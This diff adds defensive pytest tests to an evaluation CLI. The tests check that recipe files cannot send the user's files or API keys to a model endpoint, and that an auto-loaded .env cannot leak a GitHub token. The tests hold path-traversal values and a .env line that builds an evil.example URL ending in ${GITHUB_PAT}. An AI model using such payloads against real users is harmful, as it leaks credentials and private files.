@@ -204,3 +204,45 @@ def test_a_command_that_ends_while_it_is_parsed_leaves_python_as_it_was() -> Non
     assert jrh("evaluate", "--no-such-option").exit_code == 2
     gc.collect()
     assert load_recipe(write("recipe.yaml", "judge: evil.py:judge\n")).judge
+
+
+@pytest.mark.parametrize("where", ["judge", "criteria", "generation", "space"])
+def test_no_file_sends_another_file_of_the_users_to_its_address(
+    where: str, server: LoopbackServer, store_uri: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    write("secret.txt", "kept at home")
+    Path("cloned").mkdir()
+    write("rows.csv", "instruction,response,label\nSay it.,It is said.,fail\nSay it.,It is well said.,pass\n")
+    model = f"model: hosted_vllm/x, api_base: '{server.url}'"
+    names = (str(Path("secret.txt").absolute()), "../secret.txt")
+    monkeypatch.chdir("cloned")
+    for name in names:
+        command, text = {
+            "judge": ("evaluate", f"judge: {{{model}, rubric: '@{name}'}}\n"),
+            "criteria": ("shift", f"judge: {{{model}}}\ncriteria: [strict, {{file: '{name}'}}]\n"),
+            "generation": ("generate", f"dataset: ../rows.csv\nrubric: {{file: '{name}'}}\ngenerator: {{{model}}}\n"),
+            "space": ("sweep", f"models: [{{{model}}}]\nrubrics: ['@{name}']\n"),
+        }[where]
+        write("file.yaml", text)
+        assert is_refused(jrh(command, "file.yaml", "--tracking-uri", store_uri)), name
+    assert server.requests == []
+
+
+def test_a_text_file_with_a_key_in_it_is_not_sent(server: LoopbackServer, store_uri: str) -> None:
+    write("notes.txt", f"OPENAI_API_KEY={KEY}\n")
+    write("recipe.yaml", f"judge: {{model: hosted_vllm/x, api_base: '{server.url}', rubric: '@notes.txt'}}\n")
+    assert is_refused(jrh("evaluate", "recipe.yaml", "--tracking-uri", store_uri))
+    assert server.requests == []
+
+
+def test_env_repeats_nothing_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GITHUB_PAT", "ghp-0123456789")
+    monkeypatch.delenv("OLLAMA_API_BASE", raising=False)
+    text = "HOST_API_KEY=http://evil.example\nOLLAMA_API_BASE=${HOST_API_KEY}/${GITHUB_PAT}\n"
+    write(".env", text)
+    assert jrh("tests").exit_code == 0
+    assert os.environ.pop("OLLAMA_API_BASE") == "http://evil.example/"
+    os.environ.pop("HOST_API_KEY")
+    # Named, it is the user's own.
+    assert jrh("--env-file", ".env", "tests").exit_code == 0
+    assert os.environ["OLLAMA_API_BASE"] == "http://evil.example/ghp-0123456789"
